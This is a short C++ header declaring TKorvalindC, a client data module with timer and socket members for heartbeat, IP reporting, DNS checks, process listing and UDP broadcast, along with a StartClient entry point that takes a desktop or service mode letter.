#pragma once

#include <string>

#include "platform/data_module.h"
#include "platform/timer.h"

class TNetSocket;
class TUdpClient;
class TUdpServer;

// The client data module: owns the core's nine timers, five sockets and two UDP
// components and carries every handler of the core. One instance per process,
// created on the main thread (component name "KorvalindC").
class TKorvalindC : public TDataModule {
public:
  explicit TKorvalindC(TComponent* owner);

  TTimer* TimerMyIP;
  TTimer* TimerSetIP;
  TTimer* TimerHeartBeat;
  TNetSocket* SHeartBeat;
  TNetSocket* SMyIP;
  TNetSocket* SSetIP;
  TTimer* TimerDNS;
  TTimer* TimerProcList;
  TTimer* TimerSleep;
  TTimer* TimerKill;
  TTimer* TimerDNSCheck;
  TNetSocket* DNSCheck;
  TNetSocket* DNSRandom;
  TTimer* TimerDNSRandom;
  TUdpClient* UDPBroadCastClient;
  TUdpServer* UDPBroadCastServer;

  void DataModuleCreate(TObject* Sender);
};

// The one data module of the process, or null before it is created.
extern TKorvalindC* KorvalindC;

// Starts the core: the desktop client passes "W", the service "D".
void StartClient(const std::string& modeLetter);
